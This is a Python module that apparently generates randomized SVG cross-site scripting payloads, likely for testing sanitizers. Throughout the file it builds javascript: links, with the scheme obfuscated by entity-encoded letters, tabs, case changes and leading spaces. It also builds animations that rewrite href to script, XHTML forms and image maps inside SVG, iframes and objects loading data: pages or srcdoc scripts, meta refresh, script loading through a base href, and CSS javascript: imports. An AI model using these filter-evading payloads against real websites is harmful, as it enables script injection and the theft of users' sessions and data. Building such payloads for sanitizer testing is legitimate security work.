"""Payloads: addresses of JavaScript, and of documents with JavaScript."""

from .document import FULL, PIXEL, XHTML, XLINK, shape


def link(d):
    name = d.random.choice(["href", "xlink:href", "q:href"])
    if name == "q:href":
        d.attributes.append(f'xmlns:q="{XLINK}"')
    elif name == "xlink:href" and d.random.random() < 0.3:
        d.namespaces["xlink"] = "&ns_xlink;"
        d.subset.append(f'<!ENTITY ns_xlink "{XLINK}">')
    target = d.random.choice(
        ["", ' target="_self"', ' target="_top"', ' xlink:show="replace" xlink:actuate="onRequest"']
    )
    link = f'<{d.tag("a")} {d.attribute(name, d.address())}{target}>{shape(d, [])}</{d.tag("a")}>'
    if d.random.random() < 0.15:
        link = d.element("defs", [], d.element("g", ['id="u"'], link)) + d.element("use", ['href="#u"'])
    d.add(link)


def link_animated(d):
    """Addresses set by an animation, without semicolons, which separate its values."""
    target = d.random.choice(["href", "href", "xlink:href", "q:href"])
    if target == "q:href":
        d.attributes.append(f'xmlns:q="{XLINK}"')
    scheme = d.random.choice(
        [
            "javascript:",
            "javascript:",
            "JavaScript:",
            "java\tscript:".replace("\t", "&#9;"),
            "j&#x61;vascript:",
            " javascript:",
        ]
    )
    plain = scheme + "void " + d.script("\";").replace("new Image", "(new Image")
    plain += ")" if "(new Image" in plain else ""
    form = d.random.choice(["to", "to", "set", "set", "values", "values", "list", "from", "by"])
    timing = ['fill="freeze"', d.random.choice(['dur="0.02s"', 'dur="20ms" begin="0s"', 'dur="0.01s" begin="0s;9s"'])]
    about = {
        "to": [("to", plain)],
        "set": [("to", plain)],
        "values": [("values", plain)],
        "by": ['from="#"', ("by", plain)],
        "list": [("values", "#a;" + plain), 'calcMode="discrete"'],
        "from": [("from", plain), 'to="#x"'],
    }[form]
    name = "set" if form == "set" else "animate"
    written = d.random.choice([target, target, target, "".join(f"&#{ord(c)};" for c in target)])
    kind = d.random.choice(["", "", 'attributeType="XML"', 'attributeType="auto"', 'attributeType="CSS"'])
    about = [
        d.attribute("attributeName", written),
        *about,
        kind,
        *(['dur="9s"'] if form in ("from", "set") else timing),
    ]
    d.random.shuffle(about)
    about = [part for part in about if part]
    start = f'{target}="#x"' if target == "q:href" or d.random.random() < 0.5 else ""
    if d.random.random() < 0.5:
        d.add(
            d.element("a", ['id="l"', start], d.element("rect", [FULL])),
            d.element(name, [(d.random.choice(["href", "xlink:href"]), "#l"), *about]),
        )
    else:
        d.add(d.element("a", [start], d.element(name, about) + d.element("rect", [FULL])))


def link_xhtml(d):
    address = d.address()
    wide = 'style="display:block;width:100%;height:900px"'
    d.add(
        d.foreign(
            d.random.choice(
                [
                    f'<h:a {d.attribute("href", address)} {wide}>x</h:a>',
                    f'<h:form {d.attribute("action", address)}><h:input type="submit" {wide}/></h:form>',
                    f'<h:form><h:button {d.attribute("formaction", address)} {wide}>x</h:button></h:form>',
                    f'<h:form><h:input type="image" {d.attribute("formaction", address)} {wide}/></h:form>',
                    f'<h:img usemap="#m" src="{PIXEL}" {wide}/><h:map name="m"><h:area shape="default" {d.attribute("href", address)}/></h:map>',
                    f'<h:form id="f" {d.attribute("action", address)}/><h:button form="f" {wide}>x</h:button>',
                ]
            )
        )
    )


def frame(d):
    page = f"&lt;script>{d.script('<&').replace(chr(34), '&quot;').replace(chr(39), '&#39;')}&lt;/script>"
    d.add(
        d.foreign(
            d.random.choice(
                [
                    f'<h:iframe {d.attribute("src", d.address())}/>',
                    f'<h:iframe srcdoc="{page}"/>',
                    f'<h:iframe src="{d.data_page()}"/>',
                    f'<h:object data="{d.data_page()}"/>',
                    f'<h:embed src="{d.data_svg()}"/>',
                    f'<h:object data="{d.data_svg()}" type="image/svg+xml"/>',
                    f'<h:iframe src="{d.data_svg()}"/>',
                    f'<h:iframe src="http://{d.host}/page/{d.name}"/>',
                    f'<h:embed {d.attribute("src", d.address())}/>',
                    f'<h:object {d.attribute("data", d.address())}/>',
                    f'<h:object><h:param name="src" {d.attribute("value", d.address())}/></h:object>',
                    f'<h:iframe name="i"/><h:a target="i" {d.attribute("href", d.address())} style="display:block;height:900px">x</h:a>',
                    f'<iframe xmlns="{XHTML}" src="{d.data_page()}"/>',
                    f'<h:frameset><h:frame src="{d.data_page()}"/></h:frameset>',
                ]
            )
        )
    )


def head(d):
    """Elements of XHTML's head."""
    d.add(
        d.random.choice(
            [
                f'<h:meta http-equiv="refresh" content="0;url={d.address(False).replace(chr(34), "&quot;")}"/>',
                *[f'<h:base href="http://{d.host}/js/"/>' + f'<h:script src="{d.name}"/>'] * 3,
                f'<h:base href="javascript:/"/><a href="{d.script(chr(34))}">{d.element("rect", [FULL])}</a>',
                f'<h:link rel="modulepreload" href="{d.data_script()}"/><h:link rel="import" href="{d.data_page()}"/>',
            ]
        )
    )


def picture(d):
    """Images and references of SVGs, whose script no browser runs."""
    d.add(
        d.random.choice(
            [
                d.element("use", [f'href="{d.data_svg()}#x"']),
                d.element("image", [f'href="{d.data_svg()}" {FULL}']),
                d.element("filter", ['id="f"'], d.element("feImage", [f'href="{d.data_svg()}"']))
                + d.element("rect", [FULL, 'filter="url(#f)"']),
                d.element(
                    "style",
                    [],
                    f"@import 'javascript:{d.plain_script()}';rect{{fill:url(javascript:0);-moz-binding:url({d.data_svg()}#x)}}",
                ),
                d.element("rect", [FULL, 'style="behavior:url(#x);background:url(javascript:0)"']),
                f'<h:img src="{d.data_svg()}"/>',
                d.element(
                    "g", [("xml:base", "javascript:0/")], d.element("a", ['href="x"'], d.element("rect", [FULL]))
                ),
                d.element("animate", [("attributeName", "onclick"), ("to", d.script())]),
                d.element("a", [f'href="{d.data_page()}"'], d.element("rect", [FULL])),
            ]
        )
    )
